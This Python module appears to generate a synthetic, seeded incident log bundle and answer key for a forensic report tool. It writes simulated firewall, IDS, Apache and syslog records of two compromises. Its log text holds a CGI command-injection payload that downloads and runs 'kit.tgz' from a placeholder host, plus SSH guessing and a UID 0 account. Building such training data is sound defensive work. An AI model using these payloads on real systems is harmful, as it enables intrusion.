"""The built-in synthetic incident: a realistic log bundle whose truth is known.

``reportgen demo OUTDIR [--seed N] [--scale X]`` writes ``OUTDIR/bundle/`` (logs
in every supported format, some rotated and gzipped) and ``OUTDIR/truth.json``
(the answer key, never inside the bundle). The same seed and scale give the same
bytes. The story, over several weeks:

* a web server (``www``) behind a bridging firewall (``fw``) and an IDS whose
  fast-alert file names no host; the server's clock runs ahead of the sensors
  by a planted offset that drifts by a planted amount per day, and it logs in a
  planted zone;
* Internet noise in many families with daily variation and one anomalous day;
* a clean reboot, a package install and a web application that appears;
* an administrator who logs in over SSH from one network (never a compromise);
* compromise 1: commands injected into a CGI script, a tool downloaded, an IRC
  control channel and an IDS "id check returned root";
* compromise 2: SSH password guessing, then a login, a UID 0 account and an
  outbound scan from the server;
* an IDS outage of several hours while the firewall keeps logging.

Scale 1 is about 50 MB of logs; the default demo (``--scale 0.1``) builds its
report in seconds.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import random
import shutil
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, TextIO

DEFAULT_SCALE = 0.1
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
NOISE_PER_DAY = 6000
"""Inbound firewall records per day at scale 1 (about 50 MB over the period)."""


@dataclass
class Plan:
    """Every planted fact, chosen from the seed."""

    seed: int
    scale: float
    start: datetime
    days: int
    zone_s: int
    offset_s: float
    drift_s_per_day: float
    victim_ip: str
    network: str
    admin_ip: str
    web_attacker: str
    ssh_attacker: str
    irc_servers: list[str]
    download_host: str
    spike_day: int
    outage_day: int
    reboot_day: int
    install_day: int
    compromise_days: tuple[int, int]
    truth: dict[str, Any] = field(default_factory=dict)


def plan(
    seed: int, scale: float, offset_s: float | None = None, drift_s_per_day: float | None = None
) -> Plan:
    """Choose the incident's facts from the seed."""
    rnd = random.Random(seed)
    start = datetime(2010, 1, 4, tzinfo=UTC) + timedelta(days=rnd.randrange(0, 700))
    days = 28
    zone = rnd.choice([-5, -4, 1, 2, 9, 0]) * 3600
    offset = offset_s if offset_s is not None else rnd.choice([-1, 1]) * rnd.uniform(60, 900)
    drift = drift_s_per_day if drift_s_per_day is not None else rnd.uniform(-4, 4)
    net = "192.0.2"

    def public() -> str:
        return f"{rnd.randrange(24, 222)}.{rnd.randrange(0, 256)}.{rnd.randrange(0, 256)}.{rnd.randrange(1, 255)}"

    def word() -> str:
        return "".join(rnd.choice("bcdfghklmnprstvz") + rnd.choice("aeiou") for _ in range(3))

    c1, c2 = sorted(rnd.sample(range(6, days - 4), 2))
    if c2 - c1 < 3:
        c2 = min(days - 3, c1 + 3)
    return Plan(
        seed=seed,
        scale=scale,
        start=start,
        days=days,
        zone_s=zone,
        offset_s=round(offset, 1),
        drift_s_per_day=round(drift, 2),
        victim_ip=f"{net}.{rnd.randrange(10, 60)}",
        network=f"{net}.0/24",
        admin_ip=f"203.0.113.{rnd.randrange(2, 250)}",
        web_attacker=public(),
        ssh_attacker=public(),
        irc_servers=[public() for _ in range(3)],
        download_host=f"files.{word()}.example",
        spike_day=rnd.randrange(3, days - 2),
        outage_day=rnd.randrange(2, days - 2),
        reboot_day=rnd.randrange(2, 5),
        install_day=rnd.randrange(4, 6),
        compromise_days=(c1, c2),
    )


class Clocks:
    """True time (UTC) to the readings each host writes."""

    def __init__(self, p: Plan) -> None:
        self.p = p

    def victim_error(self, t: datetime) -> float:
        """Seconds the victim's clock is ahead of true time at ``t``."""
        days = (t - self.p.start).total_seconds() / 86_400
        return self.p.offset_s + self.p.drift_s_per_day * days

    def victim(self, t: datetime) -> datetime:
        """What the victim's clock reads (in its zone) at true time ``t``."""
        return (t + timedelta(seconds=self.p.zone_s + self.victim_error(t))).replace(tzinfo=None)

    @staticmethod
    def sensor(t: datetime) -> datetime:
        """Sensors keep true UTC."""
        return t.replace(tzinfo=None)


def syslog_stamp(r: datetime) -> str:
    """``Mar  1 10:02:16``."""
    return f"{MONTHS[r.month - 1]} {r.day:2d} {r:%H:%M:%S}"


def apache_stamp(r: datetime, zone_s: int) -> str:
    """``01/Mar/2011:10:02:16 +0100``."""
    sign = "-" if zone_s < 0 else "+"
    z = abs(zone_s)
    return f"{r:%d}/{MONTHS[r.month - 1]}/{r:%Y:%H:%M:%S} {sign}{z // 3600:02d}{z % 3600 // 60:02d}"


def error_stamp(r: datetime) -> str:
    """``Tue Mar 01 10:02:16 2011``."""
    return f"{DAYS[r.weekday()]} {MONTHS[r.month - 1]} {r:%d %H:%M:%S %Y}"


def fast_stamp(r: datetime) -> str:
    """``03/01-10:02:16.123456`` (Snort without -y: no year)."""
    return f"{r:%m/%d-%H:%M:%S}.{r.microsecond:06d}"


@dataclass(order=True)
class Line:
    """One line to write, sorted by true time within its file."""

    t: datetime
    order: int
    file: str = field(compare=False)
    text: str = field(compare=False)


# Noise families: (name, proto, ports, share of traffic, IDS message or None, flags)
NOISE = (
    ("smb", "TCP", (445, 139), 0.30, "NETBIOS SMB-DS IPC$ share access", "SYN"),
    ("rpc", "TCP", (135,), 0.18, "NETBIOS DCERPC ISystemActivator path overflow attempt", "SYN"),
    ("mssql", "UDP", (1434,), 0.10, "MS-SQL Worm propagation attempt", None),
    ("ssh", "TCP", (22,), 0.08, None, "SYN"),
    ("proxy", "TCP", (3128, 8080, 1080), 0.07, "SCAN Proxy Port 8080 attempt", "SYN"),
    ("backdoor", "TCP", (4899, 2745, 6129), 0.07, None, "SYN"),
    ("backscatter", "TCP", (1025, 2000, 3000, 4000), 0.08, None, "ACK RST"),
    ("icmp", "ICMP", (0,), 0.07, "ICMP PING NMAP", None),
    ("messenger", "UDP", (1026, 1027), 0.05, None, None),
)

NOISE_SIDS = {name: i for i, (name, *_rest) in enumerate(NOISE, 1)}


class Story:
    """Builds the lines of every file from a plan."""

    def __init__(self, p: Plan) -> None:
        self.p = p
        self.rnd = random.Random(p.seed * 7919 + 17)
        self.clock = Clocks(p)
        self.lines: dict[str, list[Line]] = {}
        self.n = 0
        self.pid = 2000
        self.fw_id = 1
        self.truth: dict[str, Any] = {
            "compromises": [],
            "reboots": [],
            "installs": [],
            "admin_logins": [],
            "outages": [],
        }
        day = p.outage_day
        self.outage = (self.at(day, 9), self.at(day, 15))
        self.truth["outages"].append(
            {
                "sensor": "ids",
                "start_utc": self.outage[0].isoformat(),
                "end_utc": self.outage[1].isoformat(),
            }
        )

    # --- writers -------------------------------------------------------------
    def add(self, file: str, t: datetime, text: str) -> None:
        self.n += 1
        self.lines.setdefault(file, []).append(Line(t, self.n, file, text))

    def next_pid(self) -> int:
        self.pid += self.rnd.randrange(1, 40)
        return self.pid

    def public(self) -> str:
        r = self.rnd
        return f"{r.randrange(24, 222)}.{r.randrange(0, 256)}.{r.randrange(0, 256)}.{r.randrange(1, 255)}"

    def internal(self) -> str:
        return f"192.0.2.{self.rnd.randrange(2, 254)}"

    def syslog(self, file: str, t: datetime, program: str, msg: str, pid: bool = True) -> None:
        r = self.clock.victim(t)
        tag = f"{program}[{self.next_pid()}]" if pid else program
        self.add(file, t, f"{syslog_stamp(r)} www {tag}: {msg}")

    def fw(
        self,
        t: datetime,
        prefix: str,
        src: str,
        dst: str,
        proto: str,
        spt: int,
        dpt: int,
        flags: str | None = "SYN",
        inbound: bool = True,
    ) -> None:
        r = self.clock.sensor(t)
        self.fw_id += 1
        phys = "PHYSIN=eth0 OUT=br0 PHYSOUT=eth1" if inbound else "PHYSIN=eth1 OUT=br0 PHYSOUT=eth0"
        head = f"{syslog_stamp(r)} fw kernel: {prefix} IN=br0 {phys} SRC={src} DST={dst} LEN=60 TOS=0x00 PREC=0x00 TTL={self.rnd.randrange(40, 128)} ID={self.fw_id % 65536}"
        if proto == "ICMP":
            body = " PROTO=ICMP TYPE=8 CODE=0 ID=512 SEQ=1"
        elif proto == "UDP":
            body = f" PROTO=UDP SPT={spt} DPT={dpt} LEN=40"
        else:
            body = f" DF PROTO=TCP SPT={spt} DPT={dpt} WINDOW=5840 RES=0x00 {flags} URGP=0"
        self.add("fw/kern.log", t, head + body)

    def ids(
        self,
        t: datetime,
        sid: int,
        msg: str,
        cls: str,
        prio: int,
        proto: str,
        src: str,
        spt: int | None,
        dst: str,
        dpt: int | None,
    ) -> None:
        if self.outage and self.outage[0] <= t < self.outage[1]:
            return  # the IDS is down
        r = self.clock.sensor(t + timedelta(microseconds=self.rnd.randrange(0, 900_000)))
        a = f"{src}:{spt}" if spt is not None else src
        b = f"{dst}:{dpt}" if dpt is not None else dst
        self.add(
            "ids/alert",
            t,
            f"{fast_stamp(r)}  [**] [1:{sid}:3] {msg} [**] [Classification: {cls}] [Priority: {prio}] {{{proto}}} {a} -> {b}",
        )

    def access(
        self,
        t: datetime,
        ip: str,
        request: str,
        status: int,
        size: int,
        agent: str,
        referer: str = "-",
    ) -> None:
        r = self.clock.victim(t)
        self.add(
            "www/httpd/access_log",
            t,
            f'{ip} - - [{apache_stamp(r, self.p.zone_s)}] "{request}" {status} {size} "{referer}" "{agent}"',
        )

    def error(self, t: datetime, level: str, msg: str, client: str | None = None) -> None:
        r = self.clock.victim(t)
        who = f" [client {client}]" if client else ""
        self.add("www/httpd/error_log", t, f"[{error_stamp(r)}] [{level}]{who} {msg}")

    def at(self, day: int, hour: float) -> datetime:
        return self.p.start + timedelta(days=day, hours=hour)

    # --- the story ------------------------------------------------------------
    def day(self, day: int) -> None:
        """Everything that starts on ``day`` (a compromise's aftermath may run later)."""
        p = self.p
        self.noise_day(day)
        self.routine_day(day)
        self.web_day(day)
        if day == p.reboot_day:
            self.reboot(day)
        if day == p.install_day - 1:
            self.before_install(day)
        if day == p.install_day:
            self.install(day)
        if day % 3 == 1:
            self.admin(day)
        if day == p.compromise_days[0]:
            self.web_compromise(day)
        if day == p.compromise_days[1]:
            self.ssh_compromise(day)
        if day == p.spike_day:
            self.truth["spike"] = {"day": self.at(day, 0).strftime("%Y-%m-%d"), "family": "smb"}

    def take(self, until: datetime | None) -> dict[str, list[Line]]:
        """The lines before ``until`` (all if None), per file and in time order."""
        out: dict[str, list[Line]] = {}
        for name, lines in self.lines.items():
            lines.sort()
            cut = (
                len(lines)
                if until is None
                else next((i for i, line in enumerate(lines) if line.t >= until), len(lines))
            )
            if cut:
                out[name] = lines[:cut]
                self.lines[name] = lines[cut:]
        return out

    def noise_day(self, day: int) -> None:
        p, rnd = self.p, self.rnd
        base = NOISE_PER_DAY * p.scale * rnd.uniform(0.7, 1.3)
        for name, proto, ports, share, msg, flags in NOISE:
            n = int(base * share * (8 if name == "smb" and day == p.spike_day else 1))
            for _ in range(n):
                t = self.at(day, rnd.uniform(0, 24))
                src = self.public()
                dst = self.internal() if rnd.random() < 0.85 else p.victim_ip
                dpt = rnd.choice(ports)
                spt = rnd.randrange(1024, 65000)
                self.fw(t, "[FW IN]", src, dst, proto, spt, dpt, flags)
                if msg and rnd.random() < 0.5:
                    self.ids(
                        t,
                        2000 + NOISE_SIDS[name],
                        msg,
                        "Misc Attack",
                        2,
                        proto,
                        src,
                        None if proto == "ICMP" else spt,
                        dst,
                        None if proto == "ICMP" else dpt,
                    )
            # SSH guessers also show up in the victim's own log
        for _ in range(int(20 * max(p.scale, 0.05) * 10)):
            t = self.at(day, rnd.uniform(0, 24))
            ip = self.public()
            user = rnd.choice(["root", "admin", "test", "oracle", "guest", "user"])
            self.fw(
                t - timedelta(seconds=1),
                "[FW IN]",
                ip,
                p.victim_ip,
                "TCP",
                rnd.randrange(1024, 65000),
                22,
            )
            self.syslog(
                "www/log/secure",
                t,
                "sshd",
                f"Failed password for {'invalid user ' if user != 'root' else ''}{user} from {ip} port {rnd.randrange(1024, 65000)} ssh2",
            )

    def web_day(self, day: int) -> None:
        p, rnd = self.p, self.rnd
        pages = ["/", "/index.html", "/about.html", "/news/", "/images/logo.png", "/contact.html"]
        for _ in range(int(900 * max(p.scale, 0.05))):
            t = self.at(day, rnd.uniform(0, 24))
            ip = self.public()
            spt = rnd.randrange(1024, 65000)
            self.fw(
                t - timedelta(milliseconds=rnd.randrange(5, 400)),
                "[FW IN]",
                ip,
                p.victim_ip,
                "TCP",
                spt,
                80,
            )
            path = rnd.choice(pages)
            self.access(
                t,
                ip,
                f"GET {path} HTTP/1.1",
                200,
                rnd.randrange(200, 9000),
                "Mozilla/5.0 (X11; Linux x86_64; rv:3.6) Gecko/20100101 Firefox/3.6",
            )
            if rnd.random() < 0.04:
                self.ids(
                    t,
                    1852,
                    "WEB-MISC robots.txt access",
                    "access to a potentially vulnerable web application",
                    2,
                    "TCP",
                    ip,
                    spt,
                    p.victim_ip,
                    80,
                )
        for _ in range(int(120 * max(p.scale, 0.05))):  # scanners for other platforms
            t = self.at(day, rnd.uniform(0, 24))
            ip = self.public()
            spt = rnd.randrange(1024, 65000)
            self.fw(t - timedelta(milliseconds=50), "[FW IN]", ip, p.victim_ip, "TCP", spt, 80)
            url = rnd.choice(
                [
                    "/scripts/root.exe?/c+dir",
                    "/_vti_bin/owssvr.dll",
                    "/MSADC/root.exe?/c+dir",
                    "/default.ida?XXXX",
                ]
            )
            self.access(t, ip, f"GET {url} HTTP/1.0", 404, 290, "-")
            self.error(t, "error", f"File does not exist: /var/www/html{url.split('?')[0]}", ip)
            self.ids(
                t,
                1002,
                "WEB-IIS cmd.exe access",
                "Web Application Attack",
                1,
                "TCP",
                ip,
                spt,
                p.victim_ip,
                80,
            )

    def routine_day(self, day: int) -> None:
        t = (
            self.at(day, 4.1 - self.p.zone_s / 3600)
            if day % 7
            else self.at(day, 4.05 - self.p.zone_s / 3600)
        )
        self.syslog("www/log/cron", t, "CROND", "(root) CMD (run-parts /etc/cron.daily)")
        if day % 7 == 0:
            self.add(
                "www/log/messages",
                t,
                f"{syslog_stamp(self.clock.victim(t))} www syslogd 1.4.1: restart.",
            )
            self.error(
                t + timedelta(seconds=3), "notice", "SIGHUP received.  Attempting to restart"
            )
        for k in range(int(40 * max(self.p.scale, 0.05))):
            t2 = self.at(day, self.rnd.uniform(0, 24))
            self.syslog(
                "www/log/maillog",
                t2,
                "sendmail",
                f"p{day:02d}{k:04d}: from=<news@example.org>, size={self.rnd.randrange(500, 9000)}, class=0, nrcpts=1, proto=ESMTP, daemon=MTA, relay=mx.example.org [198.51.100.25]",
            )

    def reboot(self, day: int) -> None:
        t = self.at(day, 11.5)
        self.syslog("www/log/messages", t, "shutdown", "shutting down for system reboot")
        self.syslog(
            "www/log/messages",
            t + timedelta(seconds=5),
            "httpd",
            "httpd shutdown succeeded",
            pid=False,
        )
        self.syslog(
            "www/log/messages", t + timedelta(seconds=8), "sshd", "Received signal 15; terminating."
        )
        self.add(
            "www/log/messages",
            t + timedelta(seconds=9),
            f"{syslog_stamp(self.clock.victim(t + timedelta(seconds=9)))} www syslogd 1.4.1: exiting on signal 15",
        )
        b = t + timedelta(minutes=2)
        self.add(
            "www/log/messages",
            b,
            f"{syslog_stamp(self.clock.victim(b))} www syslogd 1.4.1: restart.",
        )
        self.syslog(
            "www/log/messages",
            b,
            "kernel",
            "Linux version 2.6.32-71.el6.i686 (mockbuild@build.example.org) (gcc version 4.4.4) #1 SMP",
            pid=False,
        )
        self.syslog(
            "www/log/messages",
            b + timedelta(seconds=20),
            "sshd",
            "Server listening on 0.0.0.0 port 22.",
        )
        self.syslog(
            "www/log/messages",
            b + timedelta(seconds=25),
            "httpd",
            "httpd startup succeeded",
            pid=False,
        )
        self.error(
            b + timedelta(seconds=25),
            "notice",
            "Apache/2.2.15 (Unix) configured -- resuming normal operations",
        )
        self.truth["reboots"].append({"utc": b.isoformat(), "clean": True})

    def before_install(self, day: int) -> None:
        before = self.at(day, 15)
        for k in range(3):
            ip = self.public()
            t = before + timedelta(hours=k)
            self.access(t, ip, "GET /cgi-bin/report.cgi HTTP/1.1", 404, 290, "Mozilla/5.0")
            self.error(
                t, "error", "script not found or unable to stat: /var/www/cgi-bin/report.cgi", ip
            )

    def install(self, day: int) -> None:
        t = self.at(day, 10)
        self.syslog("www/log/messages", t, "yum", "Installed: webreport-2.1-3.noarch", pid=False)
        for k in range(5):
            ip = self.public()
            t2 = t + timedelta(hours=2 + k * 5)
            self.access(t2, ip, "GET /cgi-bin/report.cgi HTTP/1.1", 200, 4821, "Mozilla/5.0")
        self.truth["installs"].append(
            {"utc": t.isoformat(), "package": "webreport", "path": "/cgi-bin/report.cgi"}
        )

    def admin(self, day: int) -> None:
        p = self.p
        t = self.at(day, 9 + self.rnd.uniform(0, 2))
        port = self.rnd.randrange(40000, 60000)
        self.fw(
            t - timedelta(milliseconds=300), "[FW IN]", p.admin_ip, p.victim_ip, "TCP", port, 22
        )
        self.syslog(
            "www/log/secure",
            t,
            "sshd",
            f"Accepted publickey for ops from {p.admin_ip} port {port} ssh2",
        )
        self.truth["admin_logins"].append({"utc": t.isoformat(), "user": "ops", "ip": p.admin_ip})

    def web_compromise(self, day: int) -> None:
        p, rnd = self.p, self.rnd
        ip = p.web_attacker
        t = self.at(day, 13.25)
        agent = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
        probe = "/cgi-bin/report.cgi?cfg=|echo;id;echo|"
        self.fw(t - timedelta(milliseconds=200), "[FW IN]", ip, p.victim_ip, "TCP", 33001, 80)
        self.access(
            t, ip, f"GET {probe.replace(' ', '%20').replace(';', '%3b')} HTTP/1.1", 200, 512, agent
        )
        self.error(
            t + timedelta(seconds=1), "error", "uid=48(apache) gid=48(apache) groups=48(apache)", ip
        )
        t2 = t + timedelta(minutes=3)
        cmd = f"|cd /tmp;wget http://{p.download_host}/kit.tgz;tar xzf kit.tgz;./kit|"
        self.fw(t2 - timedelta(milliseconds=200), "[FW IN]", ip, p.victim_ip, "TCP", 33007, 80)
        self.access(
            t2,
            ip,
            "GET /cgi-bin/report.cgi?cfg="
            + cmd.replace(";", "%3b").replace("/", "%2f")
            + " HTTP/1.1",
            200,
            512,
            agent,
        )
        w = self.clock.victim(t2 + timedelta(seconds=1))
        self.error(
            t2 + timedelta(seconds=2),
            "error",
            f"--{w:%H:%M:%S}--  http://{p.download_host}/kit.tgz",
            ip,
        )
        self.error(
            t2 + timedelta(seconds=2),
            "error",
            f"Connecting to {p.download_host}[198.51.100.77]:80... connected.",
            ip,
        )
        self.error(
            t2 + timedelta(seconds=3), "error", "HTTP request sent, awaiting response... 200 OK", ip
        )
        self.error(
            t2 + timedelta(seconds=4),
            "error",
            f"{w:%H:%M:%S} (48.10 KB/s) - `kit.tgz' saved [31337/31337]",
            ip,
        )
        self.error(t2 + timedelta(seconds=5), "error", "sh: ./kit: started", ip)
        self.fw(
            t2 + timedelta(seconds=1),
            "[FW OUT]",
            p.victim_ip,
            "198.51.100.77",
            "TCP",
            40222,
            80,
            inbound=False,
        )
        c2 = t2 + timedelta(seconds=30)
        for k in range(int(60 * max(p.scale, 0.2)) + 10):
            tk = c2 + timedelta(minutes=k * 7 + rnd.uniform(0, 3))
            server = p.irc_servers[k % len(p.irc_servers)]
            self.fw(tk, "[FW OUT]", p.victim_ip, server, "TCP", 41000 + k, 6667, inbound=False)
            self.ids(
                tk + timedelta(seconds=2),
                1463,
                "CHAT IRC message",
                "Potential Corporate Privacy Violation",
                1,
                "TCP",
                server,
                6667,
                p.victim_ip,
                41000 + k,
            )
        root = t2 + timedelta(hours=5)
        self.ids(
            root,
            498,
            "ATTACK-RESPONSES id check returned root",
            "Potentially Bad Traffic",
            2,
            "TCP",
            p.victim_ip,
            80,
            ip,
            33100,
        )
        self.truth["compromises"].append(
            {
                "vector": "web",
                "actor": [ip],
                "start_utc": t.isoformat(),
                "start_victim_reading": self.clock.victim(t).isoformat(),
                "download": f"http://{p.download_host}/kit.tgz",
                "c2": {"irc_servers": p.irc_servers, "port": 6667},
                "root_response_utc": root.isoformat(),
            }
        )

    def ssh_compromise(self, day: int) -> None:
        p = self.p
        ip = p.ssh_attacker
        t = self.at(day, 2.5)
        for k in range(60):
            tk = t + timedelta(seconds=k * 4)
            port = 50000 + k
            self.fw(tk - timedelta(milliseconds=100), "[FW IN]", ip, p.victim_ip, "TCP", port, 22)
            user = ["root", "backup", "admin", "root"][k % 4]
            self.syslog(
                "www/log/secure",
                tk,
                "sshd",
                f"Failed password for {user} from {ip} port {port} ssh2",
            )
        login = t + timedelta(seconds=60 * 4 + 10)
        self.fw(login - timedelta(milliseconds=100), "[FW IN]", ip, p.victim_ip, "TCP", 50999, 22)
        self.syslog(
            "www/log/secure",
            login,
            "sshd",
            f"Accepted password for backup from {ip} port 50999 ssh2",
        )
        self.syslog(
            "www/log/secure",
            login + timedelta(seconds=1),
            "sshd(pam_unix)",
            "session opened for user backup by (uid=0)",
        )
        self.syslog(
            "www/log/secure",
            login + timedelta(minutes=2),
            "useradd",
            "new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash",
        )
        scan = login + timedelta(minutes=10)
        targets = sorted({self.public() for _ in range(40)})
        for k, dst in enumerate(targets):
            self.fw(
                scan + timedelta(seconds=k * 3),
                "[FW OUT]",
                p.victim_ip,
                dst,
                "TCP",
                45000 + k,
                22,
                inbound=False,
            )
        self.truth["compromises"].append(
            {
                "vector": "ssh",
                "actor": [ip],
                "start_utc": login.isoformat(),
                "start_victim_reading": self.clock.victim(login).isoformat(),
                "user": "backup",
                "new_account": "sysadm",
                "outbound_scan": {"port": 22, "targets": len(targets)},
            }
        )


ROTATE = {"www/httpd/access_log", "www/log/secure", "www/log/messages"}


def write(p: Plan, out: Path) -> dict[str, Any]:
    """Write the bundle under ``out/bundle`` and the answer key at ``out/truth.json``.

    Generated a day at a time and streamed to the files, so memory stays flat at
    any scale. The first half of the period of a rotated log goes to ``name.1.gz``.
    """
    story = Story(p)
    bundle = out / "bundle"
    if bundle.exists():
        shutil.rmtree(bundle)
    writers: dict[str, TextIO] = {}
    total = 0

    def sink(name: str, older: bool) -> TextIO:
        key = f"{name}.1.gz" if older else name
        if key not in writers:
            path = bundle / key
            path.parent.mkdir(parents=True, exist_ok=True)
            raw = open(path, "wb")  # noqa: SIM115 - closed with the others below
            if older:
                # mtime=0 and no name in the header: the same seed gives the same bytes
                zipped = gzip.GzipFile(
                    filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=6
                )
                writers[key] = io.TextIOWrapper(zipped, encoding="utf-8", newline="\n")
            else:
                writers[key] = io.TextIOWrapper(raw, encoding="utf-8", newline="\n")
        return writers[key]

    try:
        for day in range(p.days):
            story.day(day)
            for name, lines in sorted(story.take(story.at(day + 1, 0)).items()):
                total += _dump(sink(name, name in ROTATE and day < p.days // 2), lines)
        for name, lines in sorted(story.take(None).items()):
            total += _dump(sink(name, False), lines)
    finally:
        for w in writers.values():
            w.close()
    mtime = (p.start + timedelta(days=p.days + 1)).timestamp()
    for written in bundle.rglob("*"):
        os.utime(written, (mtime, mtime))
    truth = {
        "seed": p.seed,
        "scale": p.scale,
        "victim": {"host": "www", "address": p.victim_ip, "zone_s": p.zone_s},
        "sensors": {"firewall": "fw", "ids": "file ids/alert"},
        "period_utc": [p.start.isoformat(), (p.start + timedelta(days=p.days)).isoformat()],
        "clock": {
            "offset_s": p.offset_s,
            "drift_s_per_day": p.drift_s_per_day,
            "meaning": "victim clock minus true time, at the period start; sensors keep UTC",
        },
        "lines": total,
        **story.truth,
    }
    (out / "truth.json").write_text(json.dumps(truth, indent=1) + "\n")
    return truth


def _dump(f: TextIO, lines: list[Line]) -> int:
    f.write("".join(line.text + "\n" for line in lines))
    return len(lines)


def cache_dir() -> Path:
    """Where generated demo bundles are kept between runs."""
    base = os.environ.get("XDG_CACHE_HOME") or os.path.join(os.path.expanduser("~"), ".cache")
    return Path(base) / "reportgen" / "demo"


def cached_bundle(seed: int = 1, scale: float = DEFAULT_SCALE) -> str:
    """The demo bundle for (seed, scale), generated on first use."""
    out = cache_dir() / f"seed{seed}-scale{scale:g}"
    if not (out / "truth.json").exists():
        write(plan(seed, scale), out)
    return str(out / "bundle")
